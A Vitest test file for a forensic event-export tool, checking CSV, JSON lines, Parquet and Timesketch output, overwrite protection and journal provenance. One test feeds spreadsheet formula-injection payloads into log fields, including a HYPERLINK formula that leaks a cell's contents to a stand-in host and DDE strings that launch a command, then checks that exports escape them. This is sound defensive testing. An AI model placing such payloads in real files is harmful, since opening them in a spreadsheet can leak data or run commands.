import { readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ctRecord, jsonLines, tempDir } from '../../test/helpers/builders';
import { queryEvents } from '../api/events-service';
import { CaseStore } from '../case-store/case-store';
import { importBundles } from '../ingest/importer';
import { readJournal, verifyJournal } from '../journal/journal';
import { exportEvents } from './export-events';

const ROOT = resolve(__dirname, '../..');
const FILTER = { actor: 'backend-svc', text: '198.51.100.23' };

describe('exports of a filtered events view', () => {
  let store: CaseStore;
  let dir: string;
  let expected: number;

  beforeAll(async () => {
    dir = tempDir();
    store = await CaseStore.open(join(dir, 'case.duckdb'), { create: true });
    await importBundles(store, [join(ROOT, 'fixtures/incident-0214/bundle.zip')]);
    expected = (await queryEvents(store, { filter: FILTER, offset: 0, limit: 1 })).total!;
  });
  afterAll(() => store?.close());

  it('writes CSV that parses back to the same events, each with its evidence hash and record', async () => {
    const out = join(dir, 'events.csv');
    const result = await exportEvents(store, { filter: FILTER, format: 'csv', out });
    expect(result.rows).toBe(expected);
    const rows = parse(readFileSync(out), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(expected);
    expect(rows.every((r) => /^[0-9a-f]{64}$/.test(r.evidence_sha256!) && r.actor_uid!.includes('backend-svc') && r.raw!.includes('198.51.100.23'))).toBe(true);
    expect(rows.map((r) => r.time)).toEqual([...rows.map((r) => r.time!)].sort());
  });

  it('writes JSON lines and Parquet with the same rows', async () => {
    const jsonl = join(dir, 'events.jsonl');
    await exportEvents(store, { filter: FILTER, format: 'jsonl', out: jsonl });
    const lines = readFileSync(jsonl, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { event_uid: string });
    const parquet = join(dir, 'events.parquet');
    await exportEvents(store, { filter: FILTER, format: 'parquet', out: parquet });
    const back = await store.read<{ event_uid: string }>(`SELECT event_uid FROM read_parquet('${parquet}')`);
    expect(back.map((r) => r.event_uid)).toEqual(lines.map((l) => l.event_uid));
    expect(lines).toHaveLength(expected);
  });

  it('writes a Timesketch timeline with message, datetime and timestamp_desc on every row', async () => {
    const out = join(dir, 'timeline.csv');
    await exportEvents(store, { filter: {}, format: 'timesketch', out });
    const rows = parse(readFileSync(out), { columns: true }) as Record<string, string>[];
    expect(rows.length).toBe((await queryEvents(store, { filter: {}, offset: 0, limit: 1 })).total);
    for (const r of rows) {
      expect(r.message).toBeTruthy();
      expect(r.timestamp_desc).toBe('Event Time');
      expect(new Date(r.datetime!).getTime() * 1000).toBe(Number(r.timestamp));
    }
  });

  it('never overwrites unless forced, and journals every export with its hash', async () => {
    const out = join(dir, 'exists.csv');
    writeFileSync(out, 'keep me');
    await expect(exportEvents(store, { filter: FILTER, format: 'csv', out })).rejects.toThrow(/exists/);
    expect(readFileSync(out, 'utf8')).toBe('keep me');
    const forced = await exportEvents(store, { filter: FILTER, format: 'csv', out, force: true });
    const last = (await readJournal(store)).at(-1)!;
    expect(last).toMatchObject({ action: 'export', body: { path: out, format: 'csv', rows: expected, sha256: forced.sha256, filter: FILTER } });
    expect((await verifyJournal(store)).ok).toBe(true);
  });

  it('writes log content that a spreadsheet would run as text, in CSV and Timesketch, unless raw cells are asked for', async () => {
    const hostileCase = await CaseStore.open(join(dir, 'hostile.duckdb'), { create: true });
    try {
      const log = join(dir, 'hostile.jsonl');
      writeFileSync(
        log,
        jsonLines([
          ctRecord(1, { userAgent: `=HYPERLINK("http://evil.example/?x="&A1)`, sourceIPAddress: `@SUM(1+1)*cmd|' /C calc'!A0` }),
          ctRecord(2, { userAgent: `=cmd|' /C calc'!A0`, eventName: '+GetObject' }),
        ]),
      );
      await importBundles(hostileCase, [log]);
      const csv = join(dir, 'hostile.csv');
      await exportEvents(hostileCase, { filter: {}, format: 'csv', out: csv });
      const rows = parse(readFileSync(csv), { columns: true }) as Record<string, string>[];
      expect(rows.map((r) => r.user_agent)).toEqual([`'=HYPERLINK("http://evil.example/?x="&A1)`, `'=cmd|' /C calc'!A0`]);
      expect(rows[0]!.src_ip).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
      expect(rows[1]!.operation).toBe(`'+GetObject`);
      expect(Number(rows[0]!.bytes_out)).toBeGreaterThan(0);
      expect(Object.keys(rows[0]!)).toContain('bytes_in');
      const timeline = join(dir, 'hostile.timesketch.csv');
      await exportEvents(hostileCase, { filter: {}, format: 'timesketch', out: timeline });
      const sketch = parse(readFileSync(timeline), { columns: true }) as Record<string, string>[];
      expect(sketch.every((r) => !/^[=+\-@\t\r]/.test(r.user_agent!) && !/^[=+\-@\t\r]/.test(r.source_ip!))).toBe(true);
      expect(Object.keys(sketch[0]!)).toEqual(expect.arrayContaining(['bytes_out', 'bytes_in']));
      const raw = join(dir, 'hostile-raw.csv');
      await exportEvents(hostileCase, { filter: {}, format: 'csv', out: raw, rawCells: true });
      expect((parse(readFileSync(raw), { columns: true }) as Record<string, string>[])[1]!.user_agent).toBe(`=cmd|' /C calc'!A0`);
    } finally {
      hostileCase.close();
    }
  });

  it('writes the journal head beside every export (and inside Parquet), which verify --expect-head then checks', async () => {
    const out = join(dir, 'with-head.parquet');
    const result = await exportEvents(store, { filter: FILTER, format: 'parquet', out });
    const provenance = JSON.parse(readFileSync(result.provenancePath, 'utf8')) as { journalHead: string; sha256: string; rows: number };
    expect(provenance).toMatchObject({ journalHead: result.journalHead, sha256: result.sha256, rows: expected });
    const journal = await verifyJournal(store);
    // The head is the journal as it was before this export's own entry.
    expect(result.journalHead).toBe(`${journal.entries - 1}:${(await readJournal(store))[journal.entries - 2]!.hash}`);
    const [kv] = await store.read<{ value: string }>(`SELECT decode(value) AS value FROM parquet_kv_metadata('${out}') WHERE decode(key) = 'journal_head'`);
    expect(kv?.value).toBe(result.journalHead);
    const { verifyCase } = await import('../integrity/verify');
    const report = await verifyCase(store, { expectHead: result.journalHead, sources: false });
    expect(report.heads.find((h) => h.from === 'expected')).toMatchObject({ check: 'ok' });
  });
});
